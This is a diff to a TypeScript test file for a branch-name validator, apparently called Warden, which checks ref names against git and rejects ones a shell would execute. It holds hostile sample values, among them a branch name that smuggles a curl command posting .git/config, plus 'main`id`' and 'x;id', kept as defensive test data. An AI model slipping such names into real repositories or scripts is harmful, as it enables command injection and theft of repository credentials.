@@ -11,6 +11,10 @@ import { gitBranchNameProblem, gitRefFormatProblem, refNameProblem } from './git
 const outside = mkdtempSync(join(tmpdir(), 'warden-refname-'));
 after(() => rmSync(outside, { recursive: true, force: true }));
 
+/** The shape of the 2025 attack: git accepts it, a shell would run curl. */
+// biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
+const ATTACK = 'main$(curl${IFS}-d${IFS}@.git/config${IFS}127.0.0.1)';
+
 /** The oracle: what the real git binary says. */
 function gitAccepts(mode: '--allow-onelevel' | '--branch' | undefined, name: string): boolean {
   const args = ['check-ref-format', ...(mode ? [mode] : []), name];
@@ -53,7 +57,7 @@ const TABLE = [
   'a\x7fb',
   'a\x01b',
   'é/ü',
-  'main$(curl${IFS}-d${IFS}@.git/config${IFS}127.0.0.1)',
+  ATTACK,
   'main`id`',
   'a;b|c&d',
   "a'b",
@@ -115,7 +119,7 @@ test('random names built from the characters that matter agree with git', () => 
 
 test('Warden refuses names git accepts but a shell would act on', () => {
   const hostile = [
-    'main$(curl${IFS}-d${IFS}@.git/config${IFS}127.0.0.1)',
+    ATTACK,
     'main`id`',
     'x;id',
     'x|id',
